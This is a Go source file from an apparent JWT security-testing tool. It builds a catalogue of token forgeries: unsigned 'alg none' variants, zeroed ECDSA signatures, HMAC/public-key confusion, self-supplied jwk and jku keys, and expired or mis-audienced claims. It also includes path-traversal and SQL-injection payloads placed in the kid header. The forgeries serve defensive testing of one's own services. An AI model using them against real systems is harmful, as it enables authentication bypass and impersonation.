package jose

import (
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"strings"
	"time"

	"authdance/flows/wire"
)

// Forgery is one classic attack on programs that read tokens, to be tried
// against the lab and against one's own service. The right answer to each is a
// refusal.
type Forgery struct {
	ID     string
	Title  string
	Proves string // what a service does wrong that accepts it
	Check  string // the id of the check that catches it; "" when the token itself looks right
	Needs  string // NeedsNothing, NeedsPublic, NeedsOwn or NeedsSigner
	Ref    string
	make   func(f forging) (string, error)
}

// What a forgery needs beside a token.
const (
	NeedsNothing = ""
	NeedsPublic  = "public key" // the published key of the server
	NeedsOwn     = "own key"    // any key pair that the server does not know
	NeedsSigner  = "signer"     // the server's own key, or a client's: only a lab has it
)

// Answer is what a careful service answers to a forgery (RFC 6750 §3.1).
const Answer = "401 with WWW-Authenticate: Bearer error=\"invalid_token\""

// Made is a token that was made here. Mark says so in a sentence: show it
// wherever the token is shown.
type Made struct {
	Text    string
	Mark    string
	Forgery Forgery
}

// Materials is what forgeries are made with. The zero value is enough for those
// that need nothing.
type Materials struct {
	Public KeySet  // NeedsPublic
	Own    Private // NeedsOwn
	Signer Private // NeedsSigner
}

// forging is the token that is being forged.
type forging struct {
	Materials
	tok            Token
	header, claims wire.Value
	now            time.Time
}

// Forge makes the forgery with this id from a signed token. The error says what
// is missing.
func Forge(id string, tok Token, with Materials, now time.Time) (Made, error) {
	core := tok.core()
	if core.Kind != JWS && core.Kind != SDJWT || !isObject(core.Claims) {
		return Made{}, errors.New("a forgery starts from a signed JWT, and this is none")
	}
	for _, f := range Forgeries() {
		if f.ID != id {
			continue
		}
		text, err := f.make(forging{with, core, core.joined(), core.Claims, now})
		if err != nil {
			return Made{}, fmt.Errorf("%s: %w", id, err)
		}
		return Made{Text: text, Mark: "FORGED by authdance (" + f.ID + "): " + f.Title, Forgery: f}, nil
	}
	return Made{}, fmt.Errorf("no forgery is called %s", quoted(id))
}

// Forgeries lists the attacks: first those without any key, then those with the
// public key or one's own, then tokens of the right key that say the wrong thing.
func Forgeries() []Forgery {
	return []Forgery{
		{"alg_none", "The header says that the token is not signed", "It believes the token's own word that no signature is needed.", "alg_none", NeedsNothing, "RFC 8725 §2.1", unsignedAs("none")},
		{"alg_none_title", "alg None, with a capital letter", "It refuses “none” by comparing text, and its library ignores case.", "alg_none", NeedsNothing, "RFC 8725 §2.1", unsignedAs("None")},
		{"alg_none_upper", "alg NONE", "It refuses “none” by comparing text, and its library ignores case.", "alg_none", NeedsNothing, "RFC 8725 §2.1", unsignedAs("NONE")},
		{"alg_none_mixed", "alg nOnE", "It refuses “none” by comparing text, and its library ignores case.", "alg_none", NeedsNothing, "RFC 8725 §2.1", unsignedAs("nOnE")},
		{"alg_absent", "The header has no alg", "It takes a token without algorithm for one that needs no check.", "alg_missing", NeedsNothing, "RFC 7515 §4.1.1", algAbsent},
		{"stripped", "The signature is cut off", "It decodes tokens and never verifies them, or takes an empty signature for a good one.", "not_signed", NeedsNothing, "RFC 7515 §5.2", stripped},
		{"changed", "Another sub under the old signature", "It decodes tokens and never verifies them.", "signature_invalid", NeedsNothing, "RFC 7515 §5.2", changed},
		{"psychic", "An ECDSA signature of zeros", "Its library forgot to refuse r and s of zero (CVE-2022-21449): any text is signed.", "signature_invalid", NeedsNothing, "RFC 8725 §3.3", psychic},
		{"kid_path", "kid names an empty file", "It opens the file that kid names and takes its content for the secret.", "alg_symmetric", NeedsNothing, "RFC 8725 §3.10", hmacKID("../../../../../../../dev/null", "")},
		{"kid_sql", "kid is a piece of SQL", "It puts kid into a query, so the token chooses its own secret.", "alg_symmetric", NeedsNothing, "RFC 8725 §3.10", hmacKID("x' UNION SELECT 'authdance' -- ", "authdance")},
		{"hmac_empty", "HS256 with an empty secret", "A missing setting became an empty secret, which everybody knows.", "alg_symmetric", NeedsNothing, "RFC 8725 §3.5", hmacKID("", "")},
		{"hmac_weak", "HS256 with the secret “secret”", "Its secret was copied from an example.", "alg_symmetric", NeedsNothing, "RFC 8725 §3.5", hmacKID("", "secret")},
		{"crit_stripped", "The header demands an unknown extension", "It ignores crit (when the signature is checked first, this is refused for the signature).", "crit_unknown", NeedsNothing, "RFC 7515 §4.1.11", critical},
		{"base64_bits", "Another spelling of the same signature", "It decodes base64url loosely, so one token has several spellings and a deny list of texts can be passed.", "base64", NeedsNothing, "RFC 7515 §2", looseBits},

		{"hs_public_pem", "HS256 with the public key (PEM) as the secret", "It lets the token choose between public key and secret algorithms: the public key is no secret.", "alg_symmetric", NeedsPublic, "RFC 8725 §2.1", confused(publicPEM)},
		{"hs_public_jwk", "HS256 with the public key (JWK) as the secret", "It lets the token choose between public key and secret algorithms: the public key is no secret.", "alg_symmetric", NeedsPublic, "RFC 8725 §2.1", confused(publicJWK)},

		{"own_key", "Signed with another key under the same kid", "It does not verify, or takes any key.", "signature_invalid", NeedsOwn, "RFC 8725 §3.1", ownSigned(nil)},
		{"jwk_header", "The token brings its own key (jwk)", "It verifies a token with the key inside that token.", "signature_invalid", NeedsOwn, "RFC 8725 §3.10", ownSigned(embedJWK)},
		{"jku_header", "The header points to another key set (jku)", "It fetches keys from where the token says; look for a request to authdance.invalid.", "signature_invalid", NeedsOwn, "RFC 8725 §3.10", ownSigned(point("jku", "https://authdance.invalid/jwks.json"))},
		{"x5u_header", "The header points to another certificate (x5u)", "It fetches certificates from where the token says; look for a request to authdance.invalid.", "signature_invalid", NeedsOwn, "RFC 8725 §3.10", ownSigned(point("x5u", "https://authdance.invalid/cert.pem"))},

		{"expired", "Expired an hour ago", "It does not look at exp.", "expired", NeedsSigner, "RFC 7519 §4.1.4", signedClaim(func(f forging) wire.Value { return setMember(f.claims, "exp", jsonNumber(f.now.Unix()-3600)) })},
		{"no_exp", "Without exp", "It takes a token without end for one that never ends.", "claim_missing:exp", NeedsSigner, "RFC 9068 §2.2", signedClaim(func(f forging) wire.Value { return dropMember(f.claims, "exp") })},
		{"exp_text", "exp is text", "It compares a time with text, and careless comparison calls that valid.", "claim_type:exp", NeedsSigner, "RFC 7519 §2", signedClaim(func(f forging) wire.Value { return setMember(f.claims, "exp", jsonText("9999999999")) })},
		{"not_yet", "Valid from tomorrow", "It does not look at nbf.", "not_yet_valid", NeedsSigner, "RFC 7519 §4.1.5", signedClaim(func(f forging) wire.Value { return setMember(f.claims, "nbf", jsonNumber(f.now.Unix()+86400)) })},
		{"wrong_iss", "From another issuer", "It trusts a key and does not ask whose token it is.", "iss_mismatch", NeedsSigner, "RFC 9068 §4", signedClaim(func(f forging) wire.Value { return setMember(f.claims, "iss", jsonText("https://authdance.invalid")) })},
		{"wrong_aud", "For another audience", "It accepts tokens that were made for other services: their operators can use them here.", "aud_mismatch", NeedsSigner, "RFC 9068 §4", signedClaim(func(f forging) wire.Value {
			return setMember(f.claims, "aud", jsonText("https://authdance.invalid/api"))
		})},
		{"aud_part", "An audience that only begins like yours", "It compares the audience by a part of it.", "aud_mismatch", NeedsSigner, "RFC 9068 §4", signedClaim(longerAudience)},
		{"id_as_access", "An ID token in place of an access token", "It accepts any token of its server; ID tokens lie in browsers and logs.", "typ_confusion", NeedsSigner, "RFC 9068 §4", idAsAccess},
		{"duplicate", "The claim sub stands twice", "Its parser takes one of two equal names; another program takes the other.", "json_duplicate", NeedsSigner, "RFC 7519 §4", duplicated},
	}
}

func unsignedAs(alg string) func(forging) (string, error) {
	return func(f forging) (string, error) {
		return unsigned(setMember(f.header, "alg", jsonText(alg)).Indent(), f.claims.Indent(), nil), nil
	}
}

func algAbsent(f forging) (string, error) {
	return unsigned(dropMember(f.header, "alg").Indent(), f.claims.Indent(), nil), nil
}

func stripped(f forging) (string, error) { return string(f.tok.signed()) + ".", nil }

func changed(f forging) (string, error) {
	claims := setMember(f.claims, "sub", jsonText("authdance-forged"))
	return f.tok.Segment("header").Raw + "." + base64url([]byte(compactJSON(claims.Indent()))) + "." + f.tok.Segment("signature").Raw, nil
}

func psychic(f forging) (string, error) {
	a, ok := algorithm(f.header.Str("alg"))
	if !ok || a.kty != "EC" {
		a, _ = algorithm("ES256")
	}
	return unsigned(setMember(f.header, "alg", jsonText(a.name)).Indent(), f.claims.Indent(), make([]byte, a.sig)), nil
}

// hmacKID signs with a secret that everybody can know. kid "" keeps the token's.
func hmacKID(kid, secret string) func(forging) (string, error) {
	return func(f forging) (string, error) {
		header := setMember(f.header, "alg", jsonText("HS256"))
		if kid != "" {
			header = setMember(header, "kid", jsonText(kid))
		}
		return signWith(header.Indent(), f.claims.Indent(), "HS256", secretKey([]byte(secret)))
	}
}

func secretKey(b []byte) Private {
	p := Private{From: FromSecret}
	p.use(b)
	return p
}

func critical(f forging) (string, error) {
	header := setMember(f.header, "authdance", jsonText("must be understood"))
	header = setMember(header, "crit", wire.Value{Kind: wire.Array, Items: []wire.Value{jsonText("authdance")}})
	return base64url([]byte(compactJSON(header.Indent()))) + "." + f.tok.Segment("payload").Raw + "." + f.tok.Segment("signature").Raw, nil
}

// looseBits sets an unused bit in the last character of the signature.
func looseBits(f forging) (string, error) {
	raw := f.tok.Segment("signature").Raw
	if len(raw)%4 < 2 {
		return "", errors.New("the signature of this token has no unused bits; take one of another algorithm")
	}
	last := strings.IndexByte(base64urlAlphabet, raw[len(raw)-1])
	return string(f.tok.signed()) + "." + raw[:len(raw)-1] + string(base64urlAlphabet[last|1]), nil
}

// confused signs with a public key as the secret (RFC 8725 §2.1).
func confused(write func(any) (string, error)) func(forging) (string, error) {
	return func(f forging) (string, error) {
		for _, k := range f.Public.Keys {
			if k.public == nil || k.KID != "" && f.header.Str("kid") != "" && k.KID != f.header.Str("kid") {
				continue
			}
			secret, err := write(k.public())
			if err != nil {
				return "", err
			}
			return signWith(setMember(f.header, "alg", jsonText("HS256")).Indent(), f.claims.Indent(), "HS256", secretKey([]byte(secret)))
		}
		return "", errors.New("it needs the public key of the server: give its key set")
	}
}

func publicPEM(public any) (string, error) {
	der, err := x509.MarshalPKIXPublicKey(public)
	return string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})), err
}

// ownSigned signs with a key that the server does not know.
func ownSigned(change func(header wire.Value, own Private) (wire.Value, error)) func(forging) (string, error) {
	return func(f forging) (string, error) {
		name := f.Own.SigningAlg()
		if name == "" || f.Own.publicOf() == nil {
			return "", errors.New("it needs a key pair of your own: RSA, EC or Ed25519")
		}
		if a, ok := algorithm(f.header.Str("alg")); ok && f.Own.signs(a) {
			name = a.name
		}
		header := setMember(f.header, "alg", jsonText(name))
		if change != nil {
			var err error
			if header, err = change(header, f.Own); err != nil {
				return "", err
			}
		}
		return signWith(header.Indent(), f.claims.Indent(), name, f.Own)
	}
}

func embedJWK(header wire.Value, own Private) (wire.Value, error) {
	jwk, err := publicJWK(own.publicOf())
	if err != nil {
		return header, err
	}
	v, _, err := wire.ParseJSON([]byte(jwk), wire.Limits{})
	return setMember(header, "jwk", v), err
}

func point(name, target string) func(wire.Value, Private) (wire.Value, error) {
	return func(header wire.Value, _ Private) (wire.Value, error) {
		return setMember(header, name, jsonText(target)), nil
	}
}

// signedClaim signs other claims with the right key.
func signedClaim(change func(f forging) wire.Value) func(forging) (string, error) {
	return func(f forging) (string, error) {
		return f.resign(f.header, change(f).Indent())
	}
}

func (f forging) resign(header wire.Value, claims string) (string, error) {
	if f.Signer.SigningAlg() == "" {
		return "", errors.New("it needs the key that the service trusts: use the lab, or a key of your own test server")
	}
	return Draft{header.Indent(), claims}.Sign(f.Signer)
}

func longerAudience(f forging) wire.Value {
	aud := "https://authdance.invalid"
	if all := f.claims.Strings("aud"); len(all) > 0 {
		aud = all[0]
	}
	return setMember(f.claims, "aud", jsonText(aud+".authdance.invalid"))
}

func idAsAccess(f forging) (string, error) {
	claims := setMember(setMember(f.claims, "nonce", jsonText("authdance")), "at_hash", jsonText("authdance"))
	return f.resign(setMember(f.header, "typ", jsonText("JWT")), dropMember(claims, "scope").Indent())
}

func duplicated(f forging) (string, error) {
	claims := f.claims
	claims.Members = append(append([]wire.Member(nil), claims.Members...), wire.Member{Name: "sub", Value: jsonText("authdance-forged")})
	return f.resign(f.header, claims.Indent())
}
